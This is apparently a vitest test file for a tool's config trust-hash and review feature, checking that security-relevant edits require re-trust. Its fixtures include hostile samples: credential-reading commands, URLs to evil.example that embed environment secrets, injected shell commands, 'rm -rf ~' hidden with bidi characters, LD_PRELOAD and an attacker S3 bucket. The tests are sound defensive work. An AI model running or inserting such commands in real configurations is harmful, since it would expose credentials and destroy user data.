// The trust hash covers the whole normalized config less what is only shown: each section of the real
// example project, changed, must need re-trust; names, comments and key order must not.
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseDocument } from 'yaml';
import { parseConfig } from '../../main/core/config';
import { CONFIG_SECTIONS, STEP_KINDS } from '../../main/core/registry';
import { reviewActions, trustDigest } from '../../main/core/trust';

const EXAMPLE = path.join(__dirname, '..', '..', 'examples', 'inference-api', 'offload.yml');
const TEXT = fs.readFileSync(EXAMPLE, 'utf8');
const OPTS = { stepKinds: STEP_KINDS, sections: CONFIG_SECTIONS };

/** The example with two explicit ids in the local phase, so that swapping them is a valid config. */
const BASE = TEXT.replace('      - name: Build\n', '      - id: build\n        name: Build\n').replace(
  '      - name: Unit tests\n',
  '      - id: unit\n        name: Unit tests\n',
);

type Edit = (doc: ReturnType<typeof parseDocument>) => void;
const digestOf = (text: string) => trustDigest(parseConfig(text, EXAMPLE, OPTS));
const edited = (edit: Edit, from = BASE): string => {
  const doc = parseDocument(from);
  edit(doc);
  return doc.toString();
};

describe('trust digest', () => {
  const base = digestOf(BASE);

  const changes: Record<string, Edit> = {
    'swapping two step ids': (d) => {
      d.setIn(['phases', 'local', 'steps', 0, 'id'], 'unit');
      d.setIn(['phases', 'local', 'steps', 1, 'id'], 'build');
    },
    'a step command': (d) => d.setIn(['phases', 'local', 'steps', 0, 'run'], 'npm run build; touch PWNED'),
    'a step timeout': (d) => d.setIn(['phases', 'local', 'steps', 2, 'timeout'], '31s'),
    'step retries': (d) => d.setIn(['phases', 'aws-test', 'steps', 0, 'retries'], 6),
    'a retry delay': (d) => d.setIn(['phases', 'aws-test', 'steps', 0, 'retry-delay'], '6s'),
    'continue-on-error': (d) => d.setIn(['phases', 'local', 'steps', 1, 'continue-on-error'], true),
    'a step cwd': (d) => d.setIn(['phases', 'local', 'steps', 0, 'cwd'], 'src'),
    'a step env': (d) => d.setIn(['phases', 'local', 'steps', 0, 'env'], { LD_PRELOAD: '/tmp/x.so' }),
    'a kind spec (ecs-deploy cluster)': (d) =>
      d.setIn(['phases', 'aws-deploy', 'steps', 0, 'ecs-deploy', 'cluster'], 'prod'),
    'the http step url': (d) =>
      d.setIn(['phases', 'aws-test', 'steps', 0, 'http', 'url'], 'https://evil.example/'),
    env: (d) => d.setIn(['env', 'AWS_API_URL'], 'https://evil.example'),
    secrets: (d) => d.set('secrets', ['GITHUB_TOKEN']),
    workflows: (d) => d.set('workflows', { mine: ['local', 'shutdown'] }),
    history: (d) => d.setIn(['history', 'keep'], 3),
    'aws.region': (d) => d.setIn(['aws', 'region'], 'us-east-1'),
    'aws.profile': (d) => d.setIn(['aws', 'profile'], 'prod'),
    'aws.endpoint': (d) => d.setIn(['aws', 'endpoint'], 'https://collector.evil.example'),
    'gate.endpoints url': (d) =>
      d.setIn(['gate', 'endpoints', 0, 'url'], 'https://evil.example/?k=${{ env.HOME }}'),
    'gate.endpoints name (keys the pass counts)': (d) => d.setIn(['gate', 'endpoints', 0, 'name'], 'other'),
    'gate.services': (d) => d.setIn(['gate', 'services', 0, 'cluster'], 'prod'),
    'gate.alarms': (d) => d.setIn(['gate', 'alarms', 'prefixes'], ['other-']),
    'gate.policy': (d) => d.setIn(['gate', 'policy'], 'auto'),
    'notify log group': (d) => d.setIn(['notify', 'log-groups', 0, 'name'], '/ecs/other'),
    'notify.local-logs command': (d) =>
      d.setIn(['notify', 'local-logs'], [{ command: 'cat ~/.aws/credentials' }]),
    'switch file path': (d) => d.setIn(['switch', 'files', 0, 'path'], '.env.local'),
    'switch key value': (d) =>
      d.setIn(['switch', 'files', 0, 'keys', 'MODEL_URL', 'local'], 'http://evil.example'),
    'switch local-models.start': (d) => d.setIn(['switch', 'local-models', 'start'], 'sh -c evil'),
    'models.matchers': (d) => d.set('models', { matchers: [{ name: 'x', exe: 'sshd' }] }),
    'watch (a section no list names: covered by default)': (d) => d.set('watch', { gpu: false }),
    'renaming a step without an id (its derived id is OFFLOAD_STEP)': (d) =>
      d.setIn(['phases', 'local', 'steps', 2, 'name'], 'Smoke'),
  };

  for (const [what, edit] of Object.entries(changes))
    it(`changes with ${what}`, () => {
      const text = edited(edit);
      expect(text).not.toBe(BASE);
      expect(digestOf(text)).not.toBe(base);
    });

  it('keeps with comments, key order, the project name and names of steps that have an id', () => {
    expect(digestOf(`# hello\n${BASE}\n# bye\n`)).toBe(base);
    expect(digestOf(edited((d) => d.set('name', 'renamed')))).toBe(base);
    const renamed = edited((d) => {
      d.setIn(['phases', 'local', 'steps', 0, 'name'], 'Compile everything');
      d.setIn(['phases', 'aws-prepare', 'steps', 1, 'name'], 'Push it');
    });
    expect(digestOf(renamed)).toBe(base);
    const reordered = BASE.replace(
      '  profile: dev\n  region: eu-west-1\n',
      '  region: eu-west-1\n  profile: dev\n',
    );
    expect(reordered).not.toBe(BASE);
    expect(digestOf(reordered)).toBe(base);
    // Moving a step's lines (its position) alone is not a change either.
    expect(digestOf(BASE.replace('name: inference-api\n', 'name: inference-api\n\n\n'))).toBe(base);
  });

  it('counts a key no list names (one a later version adds), anywhere in the config', () => {
    const config = parseConfig(BASE, EXAMPLE, OPTS);
    const withNew = { ...config, sandbox: { network: 'host' } } as typeof config;
    expect(trustDigest(withNew)).not.toBe(base);
    const step = config.phases.local.steps[0]!;
    const stepWithNew = { ...step, shell: '/bin/evil' } as typeof step;
    const phases = { ...config.phases, local: { ...config.phases.local, steps: [stepWithNew] } };
    expect(trustDigest({ ...config, phases })).not.toBe(
      trustDigest({ ...config, phases: { ...phases, local: { ...phases.local, steps: [step] } } }),
    );
  });

  it('counts the project name once a ${{ project.name }} puts it into a command', () => {
    const uses = edited((d) => d.setIn(['phases', 'local', 'steps', 0, 'run'], 'echo ${{ project.name }}'));
    expect(digestOf(edited((d) => d.set('name', 'x; touch PWNED'), uses))).not.toBe(digestOf(uses));
  });

  it('counts the project name once a team: section keys the bucket by it (lock, runs, passes)', () => {
    const team = edited((d) => d.set('team', { evidence: 's3://team-bucket/offload' }));
    expect(digestOf(edited((d) => d.set('name', 'another-project'), team))).not.toBe(digestOf(team));
  });

  it('the review lists every step command in full, hidden characters shown', () => {
    const long = `echo ${'a'.repeat(200)}; touch PWNED`;
    const text = edited((d) => {
      d.setIn(['phases', 'local', 'steps', 0, 'run'], long);
      d.setIn(['phases', 'local', 'steps', 1, 'run'], 'echo ok \u202e; rm -rf ~ \u2069\u200b#\nsecond line');
    });
    const actions = reviewActions(parseConfig(text, EXAMPLE, OPTS));
    expect(actions).toContain(`local › Build (build): run ${long}`);
    expect(actions).toContain(
      'local › Unit tests (unit): run echo ok ⟨U+202E⟩; rm -rf ~ ⟨U+2069⟩⟨U+200B⟩#\nsecond line',
    );
  });

  it('the review lists every gate endpoint it will request, and says when your environment goes into one', () => {
    const url = 'http://127.0.0.1:18777/health?k=${{ env.AWS_SECRET_ACCESS_KEY }}';
    const text = edited((d) => d.setIn(['gate', 'endpoints'], [{ name: 'leak', url }]));
    const actions = reviewActions(parseConfig(text, EXAMPLE, OPTS));
    expect(actions).toContain(
      `gate: requests ${url} on every check — with values from your environment in it`,
    );
  });

  it('a digest kept with the model is not part of what is hashed (a kept model hashes as the loaded one)', () => {
    const config = parseConfig(BASE, EXAMPLE, OPTS);
    expect(trustDigest({ ...config, trustDigest: 'f'.repeat(64) })).toBe(base);
  });

  it('the review names the team bucket every run writes its record to and reads passes from', () => {
    const text = edited((d) =>
      d.set('team', { evidence: 's3://attacker-bucket/x', profile: 'prod', environment: 'dev' }),
    );
    const actions = reviewActions(parseConfig(text, EXAMPLE, OPTS));
    expect(actions).toContainEqual(
      expect.stringMatching(
        /^team: writes each run's record \(.*git author.*machine.*\) to s3:\/\/attacker-bucket\/x with your AWS credentials \(profile prod\), and counts local passes found there/,
      ),
    );
  });
});
